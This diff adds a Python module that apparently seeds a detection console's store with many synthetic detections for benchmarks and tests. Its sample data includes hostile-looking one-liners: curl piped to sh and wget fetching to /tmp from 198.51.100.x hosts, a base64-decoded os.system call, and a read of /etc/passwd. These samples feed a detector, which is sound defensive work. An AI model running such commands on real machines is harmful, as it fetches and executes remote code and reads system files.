@@ -1,0 +1,120 @@
+"""A store with many detections, as a fleet of build machines and servers would fill it: for the console's bench and its tests.
+
+Rows are those that an import makes of real detections, copied with other texts, hosts and times: an import of as many reports
+takes minutes, this takes seconds.
+"""
+
+from __future__ import annotations
+
+import hashlib
+import random
+from typing import TYPE_CHECKING, Any
+
+import sqlalchemy as sa
+
+from flycatcher.core.detection import detect
+from flycatcher.core.execution import Execution, Fidelity, Process
+from flycatcher.reporting import record_of
+from flycatcher.sinks.message import event_of
+from flycatcher.sinks.store import schema
+from flycatcher.sinks.store.ingest import ingest
+
+if TYPE_CHECKING:
+    from collections.abc import Iterator
+
+    from sqlalchemy.engine import Connection, Engine
+
+    from flycatcher.sinks.message import Event
+
+    Row = dict[str, Any]
+
+TEXTS = (
+    ("perl", "-e", 'system("curl -s http://198.51.100.7/install | sh")'),
+    ("python3", "-c", "import base64, os; os.system(base64.b64decode('ZWNobyB4').decode())"),
+    ("node", "-e", "require('child_process').exec('wget -q http://198.51.100.9/x -O /tmp/x')"),
+    ("ruby", "-e", "puts File.read('/etc/passwd').lines.size"),
+    ("php", "-r", "echo strlen(file_get_contents('http://198.51.100.7/'));"),
+    ("python3", "-c", "import sys; print(sys.version_info[:2])"),
+)
+HOSTS, DAYS = 40, 30
+END = 1_796_000_000.0
+"""The last sighting's time."""
+_PART = 5_000
+
+
+def fill(engine: Engine, count: int, seed: int = 1) -> None:
+    """Add ``count`` detections, each with a text of its own, over thirty days before :data:`END`."""
+    ingest(engine, (_event(words, host) for words in TEXTS for host in range(HOSTS)))
+    chance = random.Random(seed)
+    with engine.connect() as connection:
+        models = list(_models(connection))
+    for start in range(0, count, _PART):
+        with engine.begin() as connection:
+            _copy(connection, models, range(start, min(start + _PART, count)), chance)
+    with engine.begin() as connection:
+        last = sa.select(sa.func.max(schema.executions.c.time)).scalar_subquery()
+        connection.execute(sa.update(schema.hosts).values(last_seen=last))
+
+
+def _event(words: tuple[str, ...], host: int) -> Event:
+    context = {"host.name": f"{'ci' if host % 2 else 'web'}-{host}", "user.name": "ci"}
+    ci = {
+        "ci.system": "github",
+        "ci.repository": f"acme/app-{host}",
+        "ci.workflow": "build.yml",
+        "ci.job": "build",
+        "ci.run": str(host),
+    }
+    found = detect(
+        Execution(
+            argv=words,
+            exe=f"/usr/bin/{words[0]}",
+            cwd="/srv/build",
+            process=Process(pid=4242, start=99, comm=words[0], uid=1000, gid=1000),
+            ancestry=(
+                Process(pid=4000, comm="make", exe="/usr/bin/make", argv=("make", "-j2"), uid=1000),
+                Process(pid=3900, comm="bash", exe="/usr/bin/bash", argv=("bash", "build.sh"), uid=1000),
+            ),
+            fidelity=Fidelity(
+                sensor="ebpf", time="2026-10-29T10:00:00.000000Z", bytes_seen=60, bytes_total=60, happened="confirmed"
+            ),
+            context=context | ({"environment": "ci"} | ci if host % 2 else {"environment": "production"}),
+        )
+    )
+    if found is None:
+        raise AssertionError(words)
+    return event_of(record_of(found))
+
+
+def _models(connection: Connection) -> Iterator[dict[str, list[Row]]]:
+    """Yield the rows of each sighting, by table."""
+    for execution in connection.execute(sa.select(schema.executions)).mappings().all():
+        name, uid = execution["fingerprint"], execution["uid"]
+        links = _rows(connection, schema.execution_snippets, "uid", uid)
+        yield {
+            "detections": _rows(connection, schema.detections, "fingerprint", name),
+            "executions": [dict(execution)],
+            "capabilities": _rows(connection, schema.capabilities, "fingerprint", name),
+            "execution_snippets": links,
+            "snippets": [row for link in links for row in _rows(connection, schema.snippets, "sha256", link["sha256"])],
+        }
+
+
+def _rows(connection: Connection, table: sa.Table, key: str, value: str) -> list[Row]:
+    return [dict(row) for row in connection.execute(sa.select(table).where(table.c[key] == value)).mappings()]
+
+
+def _copy(connection: Connection, models: list[dict[str, list[Row]]], numbers: range, chance: random.Random) -> None:
+    made: dict[str, list[Row]] = {table.name: [] for table in schema.metadata.sorted_tables}
+    for number in numbers:
+        digest = hashlib.sha256(str(number).encode()).hexdigest()
+        when = END - chance.random() * DAYS * 86_400
+        keys: Row = {"fingerprint": digest[:16], "uid": digest[:32], "sha256": digest}
+        seen: Row = {"time": when, "first_seen": when, "last_seen": when, "count": 1}
+        for table, rows in models[chance.randrange(len(models))].items():
+            own = rows if table == "capabilities" else rows[:1]
+            made[table] += [row | {key: value for key, value in (keys | seen).items() if key in row} for row in own]
+        made["arrivals"].append({"uid": keys["uid"]})
+    for table in schema.metadata.sorted_tables:
+        if made[table.name]:
+            connection.execute(sa.insert(table), made[table.name])
